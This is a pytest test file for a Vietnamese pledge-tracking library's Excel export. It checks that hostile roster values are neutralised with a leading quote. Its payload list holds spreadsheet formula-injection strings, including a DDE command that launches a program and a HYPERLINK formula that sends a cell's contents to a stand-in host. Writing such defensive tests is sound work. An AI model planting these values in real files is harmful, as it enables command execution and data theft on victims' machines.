"""Hostile input: no live formulas in any workbook the library writes (issue 15, class 3).

Roster values such as ``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``@SUM(…)`` or a tab
followed by ``=1+1`` are written as text, neutralised with a leading quote as OWASP
recommends, and read back unchanged.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import attrs
import pytest
from openpyxl import load_workbook

from hostile import cli_runner, exported_workbook, open_cell, reported_handbook
from lamtheoguongbac import DeliverableTarget, Pledge
from lamtheoguongbac.spreadsheet import (
    read_workbook,
    workbook_data,
    write_rollup,
    write_template,
)
from strategies import CELL, MEMBER, YEAR, full_report, good_pledges, self_assessment

PAYLOADS = [
    '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "''-đã có dấu nháy",
    "- Giải quyết hồ sơ đúng hạn",
]


def _formula_cells(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _hostile_service():  # type: ignore[no-untyped-def]
    service = open_cell()
    members = service.roster.members()
    for i, (member, payload) in enumerate(zip(members, PAYLOADS, strict=False)):
        service.roster.save([], [attrs.evolve(member, workplace=payload, position=PAYLOADS[-i])])
    cell = attrs.evolve(CELL, name=PAYLOADS[0], place=PAYLOADS[2])
    service.roster.save([cell], [])
    reported_handbook(service)
    return service


def test_the_exported_workbook_has_no_formula_and_reads_back_unchanged(tmp_path: Path) -> None:
    service = _hostile_service()
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    assert _formula_cells(path) == []
    ws = load_workbook(path)["Đảng viên"]
    texts = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert "'" + PAYLOADS[0] in texts
    assert "'" + PAYLOADS[1] in texts
    data = read_workbook(path)
    expected = workbook_data(
        service.find(year=YEAR), service.roster.members(), service.store.units()
    )
    assert set(data.members) == set(expected.members)
    assert set(data.units) == set(expected.units)
    assert {m.workplace for m in data.members} >= set(PAYLOADS[:4])


def test_the_template_and_the_rollup_have_no_formula(tmp_path: Path) -> None:
    write_template(tmp_path / "mau.xlsx")
    assert _formula_cells(tmp_path / "mau.xlsx") == []
    service = _hostile_service()
    figures = service.supervision.rollup(organisation_id=CELL.id, year=YEAR)
    write_rollup(tmp_path / "tong-hop.xlsx", figures)
    assert _formula_cells(tmp_path / "tong-hop.xlsx") == []
    ws = load_workbook(tmp_path / "tong-hop.xlsx")["Tổng hợp"]
    assert any(c.value == "'" + PAYLOADS[0] for row in ws.iter_rows() for c in row)


def test_reimporting_the_export_unchanged_changes_nothing(tmp_path: Path) -> None:
    """The "deliverable pledge" case: a deliverable's due date is its deadline on the sheet."""
    service = open_cell()
    book = service.create(MEMBER.id, year=YEAR, actor=MEMBER)
    deliverable = Pledge(
        id="viec-3",
        deed=f"Xây dựng 01 sáng kiến số hóa hồ sơ một cửa, hoàn thành trước 30/11/{YEAR}.",
        target=DeliverableTarget(description="01 sáng kiến", due=dt.date(YEAR, 11, 30)),
        task="Tiếp nhận và giải quyết hồ sơ một cửa",
        bases=good_pledges(1)[0].bases,
    )
    pledges = (*good_pledges(2), deliverable)
    service.register_pledges(book.id, pledges, actor=MEMBER)
    service.report_results(
        book.id, full_report(pledges), actor=MEMBER, self_assessment=self_assessment()
    )
    before = service.history(book.id)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    result = service.import_workbook(read_workbook(path), year=YEAR, actor=MEMBER)
    assert result.events == ()
    assert service.history(book.id) == before


@pytest.mark.parametrize("command", ["export", "stats"])
def test_the_cli_writes_no_formula(command: str, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'so-tay.db'}"
    service = open_cell(url)
    service.roster.save([], [attrs.evolve(MEMBER, workplace=PAYLOADS[1])])
    service.close()
    run = cli_runner(url)
    out = tmp_path / "ra.xlsx"
    if command == "export":
        result = run("workbook", "export", str(out), "--year", str(YEAR), "--cell", CELL.id)
    else:
        result = run("stats", "--org", CELL.id, "--year", str(YEAR), "--xlsx", str(out))
    assert result.exit_code == 0, result.output
    assert _formula_cells(out) == []
